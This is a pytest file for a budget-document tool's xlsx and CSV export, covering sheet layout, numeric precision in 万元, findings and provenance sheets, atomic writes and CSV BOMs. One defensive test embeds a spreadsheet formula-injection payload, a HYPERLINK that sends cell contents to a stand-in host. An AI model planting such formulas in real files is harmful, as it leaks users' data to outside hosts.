"""`budgetkit export PATH... --xlsx FILE` (issue #12 item 13), read back with openpyxl: one
sheet per canonical table with Chinese headers, amounts as numbers in 万元 with their printed
precision, findings, provenance; document text never becomes a formula; written atomically.
And `amounts --output` writes a CSV with the UTF-8 BOM Excel needs (stdout has none)."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from budgetkit.catalog import catalog
from budgetkit.document import read
from budgetkit.errors import WriteError
from budgetkit.export import write_atomically, write_xlsx

from .conftest import SEED, SHANGHAI
from .test_cli import run

openpyxl = pytest.importorskip("openpyxl")

PDF = SHANGHAI / "上海市普陀区人民政府办公室25年预算.pdf"


@pytest.fixture(scope="module")
def book(tmp_path_factory):
    out = tmp_path_factory.mktemp("xlsx") / "预算.xlsx"
    code, stdout, err = run("export", SEED, PDF, "--xlsx", out)
    assert code == 0, err
    assert "wrote 2 document(s)" in stdout
    return openpyxl.load_workbook(out)


def _rows(ws) -> list[dict]:
    header = [c.value for c in ws[1]]
    return [dict(zip(header, (c for c in row), strict=True)) for row in ws.iter_rows(min_row=2)]


def test_sheets(book):
    cat = catalog()
    names = book.sheetnames
    assert names[0] == "概要" and names[-2:] == ["审核发现", "来源"]
    present = {a.table for d in (read(SEED), read(PDF)) for a in d.parsed.amounts}
    # one sheet per canonical table either document prints, in catalogue order
    assert names[1:-2] == [t.zh for tid, t in cat.tables.items() if tid in present]
    assert len(present) >= 8


def test_summary_sheet_figures_are_numbers(book):
    rows = _rows(book["概要"])
    assert [r["部门"].value for r in rows] == [
        "昌吉回族自治州人民政府驻北京联络处",
        "上海市普陀区人民政府办公室",
    ]
    seed, pdf = rows
    assert seed["收入总计（万元）"].value == 342.31
    assert seed["收入总计（万元）"].number_format == "#,##0.00"
    # 元 figures keep their printed precision in 万元: 24,606,775.35 元 = 2,460.677535 万元
    assert pdf["基本支出（万元）"].value == pytest.approx(2460.677535, abs=1e-9)
    assert pdf["基本支出（万元）"].number_format == "#,##0.000000"
    assert seed["错误"].value == 0 and seed["警告"].value == 8


def _expenditure_sheet(book):
    return book[catalog().tables["expenditure"].zh]


def test_table_sheet_headers_and_values(book):
    ws = _expenditure_sheet(book)
    header = [c.value for c in ws[1]]
    assert header[:6] == ["文件", "部门", "年度", "科目编码", "级次", "名称"]
    assert (
        "合计（万元）" in header
        and "基本支出（万元）" in header
        and header[-3:] == ["原单位", "页", "行"]
    )
    rows = _rows(ws)
    r201 = next(r for r in rows if r["科目编码"].value == "201" and r["文件"].value == str(SEED))
    assert r201["级次"].value == "类" and r201["名称"].value == "一般公共服务支出"
    assert r201["合计（万元）"].value == 298.75 and r201["合计（万元）"].data_type == "n"
    assert r201["合计（万元）"].number_format == "#,##0.00"
    assert r201["行"].value == 162 and r201["原单位"].value == "万元"
    pdf_total = next(
        r
        for r in rows
        if r["文件"].value == str(PDF) and r["名称"].value == "合计" and r["页"].value
    )
    assert pdf_total["合计（万元）"].value == pytest.approx(9101.677535, abs=1e-9)
    assert pdf_total["合计（万元）"].number_format == "#,##0.000000"
    assert pdf_total["原单位"].value == "元" and pdf_total["页"].value == 12


def test_every_amount_is_in_the_provenance_sheet(book):
    rows = _rows(book["来源"])
    docs = [read(SEED), read(PDF)]
    assert len(rows) == sum(len(d.parsed.amounts) for d in docs)
    total = sum(Decimal(str(r["金额（万元）"].value)) for r in rows if r["文件"].value == str(SEED))
    assert total == sum(a.value for a in docs[0].parsed.amounts)
    r = rows[0]
    assert {"原文", "原单位", "文件", "页", "行", "栏目"} <= set(r)


def test_findings_sheet(book):
    rows = _rows(book["审核发现"])
    seed = [r for r in rows if r["文件"].value == str(SEED)]
    assert len(seed) == len(read(SEED).findings())
    assert {r["严重程度"].value for r in seed} == {"警告", "提示"}
    assert all(r["说明"].value for r in seed)


def test_document_text_is_never_a_formula(tmp_path, seed_text):
    evil = '=HYPERLINK("http://x.example/?"&A1,"点击")'
    path = tmp_path / "evil.txt"
    path.write_text(seed_text.replace("一般公共服务支出", evil), "utf-8")
    out = tmp_path / "evil.xlsx"
    write_xlsx([read(path)], out)
    ws = openpyxl.load_workbook(out)[catalog().tables["expenditure"].zh]
    cells = [c for row in ws.iter_rows() for c in row if c.value == evil]
    assert cells and all(c.data_type == "s" for c in cells)


def test_export_batch_skips_a_bad_file(tmp_path):
    bad = tmp_path / "bad.pdf"
    bad.write_bytes(b"%PDF-1.4 truncated")
    out = tmp_path / "out.xlsx"
    code, stdout, err = run("export", bad, SEED, "--xlsx", out)
    assert code == 2 and str(bad) in err and err.count("\n") == 1
    assert "wrote 1 document(s)" in stdout and out.exists()


def test_export_nothing_readable_writes_nothing(tmp_path):
    bad = tmp_path / "bad.txt"
    bad.write_bytes(b"")
    out = tmp_path / "out.xlsx"
    code, _, err = run("export", bad, "--xlsx", out)
    assert code == 2 and not out.exists() and "nothing written" in err


def test_export_to_a_missing_folder_names_the_output(tmp_path):
    out = tmp_path / "nope" / "out.xlsx"
    code, _, err = run("export", SEED, "--xlsx", out)
    assert code == 2 and str(out) in err and "does not exist" in err and str(SEED) not in err


def test_atomic_write_keeps_the_old_file_when_writing_fails(tmp_path):
    dest = tmp_path / "book.xlsx"
    dest.write_bytes(b"old")

    def fail(tmp):
        tmp.write_bytes(b"half")
        raise OSError(28, "No space left on device")

    with pytest.raises(WriteError, match="No space left"):
        write_atomically(dest, fail)
    assert dest.read_bytes() == b"old"
    assert [p.name for p in tmp_path.iterdir()] == ["book.xlsx"]  # no temporary file left


def test_amounts_output_csv_has_a_bom_and_stdout_none(tmp_path, cli):
    out = tmp_path / "amounts.csv"
    code, stdout, err = cli("amounts", SEED, "--output", out)
    assert code == 0 and stdout == "", err
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    code, stdout, _ = cli("amounts", SEED)
    assert not stdout.startswith("\ufeff")
    assert (
        list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))[1:]
        == list(csv.reader(io.StringIO(stdout)))[1:]
    )
    code, _, _ = cli("amounts", SEED, "--format", "json", "--output", tmp_path / "a.json")
    assert not (tmp_path / "a.json").read_bytes().startswith(b"\xef\xbb\xbf")
